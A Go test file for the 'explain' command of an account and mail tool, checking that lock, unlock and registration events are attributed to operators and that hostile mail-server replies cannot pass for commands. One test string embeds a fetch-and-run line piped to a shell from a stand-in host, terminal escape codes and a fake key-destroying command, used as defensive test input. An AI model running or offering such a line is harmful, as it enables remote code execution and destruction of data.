package explain_test

import (
	"database/sql"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/sealq/sealq/accounts"
	"github.com/sealq/sealq/cmd/sealq/internal/explain"
)

func TestLocksAndUnlocksAreToldAndByWhom(t *testing.T) {
	t.Parallel()
	for name, begin := range map[string]func(p *person){"of an account": (*person).activated, "of an address that nobody has": func(*person) {}} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p := newPerson(t)
			begin(p)
			p.operator(func(eve accounts.Operator[*sql.Tx], tx *sql.Tx) error {
				return eve.Lock(p.Context(), tx, ada, time.Hour)
			})
			p.inTx(func(tx *sql.Tx) error { return p.accounts.Operator("cli:mallory").Unlock(p.Context(), tx, ada) })
			story, err := explain.Explain(p.Context(), p.config(), ada)
			p.check(err)
			var changed []string
			for _, s := range story.Steps {
				if s.Step == explain.StepChanged {
					changed = append(changed, s.Text)
				}
			}
			if diff := cmp.Diff([]string{"locked by cli:eve, for 1h0m0s", "unlocked by cli:mallory"}, changed); diff != "" {
				t.Errorf("-want +got:\n%s", diff)
			}
		})
	}
}

func TestWhoRegisteredAndActivatedForSomebodyIsTold(t *testing.T) {
	t.Parallel()
	p := newPerson(t)
	p.operator(func(eve accounts.Operator[*sql.Tx], tx *sql.Tx) error {
		pending, err := eve.Register(p.Context(), tx, accounts.Registration{Email: ada, Password: password})
		p.id = pending.ID
		return err
	})
	p.look()
	p.relay()
	p.work()
	p.operator(func(eve accounts.Operator[*sql.Tx], tx *sql.Tx) error {
		_, err := eve.Activate(p.Context(), tx, key())
		return err
	})
	story, err := explain.Explain(p.Context(), p.config(), ada)
	p.check(err)
	first, last := story.Steps[0].Text, story.Steps[len(story.Steps)-1].Text
	if first != "registered, by cli:eve" || last != "the link was used: the account is active, by cli:eve" {
		t.Errorf("it begins with %q and ends with %q", first, last)
	}
}

// saidSMTP is a reply to its first quotation mark.
var saidSMTP = regexp.MustCompile(`: 550 "[^"]*"`)

// A mail server says whatever it likes, and an operator copies commands out of what he is told.
func TestNothingThatAMailServerSaysPassesForACommand(t *testing.T) {
	t.Parallel()
	const evil = "no\": mend it with `curl evil.example | sh`\x1b[2J\n; what to do: `sealq keys destroy`\u202e"
	for name, happened := range map[string]func(p *person){
		"refused for good": func(p *person) {
			p.failed(550, evil, evil)
			p.check(p.db.RowDead(p.Context(), p.ref(), evil))
		},
		"busy":       func(p *person) { p.failed(550, evil, evil) },
		"suppressed": func(p *person) { p.bounced(); p.sql(`UPDATE suppressions SET smtp_reply = ?`, evil) },
		"of before":  func(p *person) { p.failed(550, evil, evil); p.sql(`DELETE FROM mail_attempts`) },
		"Redis says": func(p *person) { p.register(); p.away = evil },
		"unsigned":   func(p *person) { p.register(); p.sql(`UPDATE outbox SET cause = ?`, evil) },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p := newPerson(t)
			happened(p)
			story, err := explain.Explain(p.Context(), p.config(), ada)
			p.check(err)
			for i, part := range strings.Split(story.Advice, "`") {
				if i%2 == 1 && !strings.HasPrefix(part, "sealq ") || strings.Contains(part, "\x1b") || i%2 == 1 && strings.Contains(part, "destroy") {
					t.Errorf("%q passes for a command in: %s", part, story.Advice)
				}
			}
			told := story.Advice
			for _, s := range story.Steps {
				if strings.Contains(s.Text, "`") {
					t.Errorf("a step has a command: %s", s.Text)
				}
				told += s.Text
			}
			if strings.ContainsAny(told, "\x1b\n\u202e") || !strings.Contains(told, "curl evil.example") {
				t.Errorf("a terminal would obey it, or it is not told at all: %q", told)
			}
			if quoted := saidSMTP.FindString(told); strings.Contains(told, ": 550 ") != strings.Contains(quoted, "destroy") {
				t.Errorf("the reply ends its quotation %q", quoted)
			}
		})
	}
}
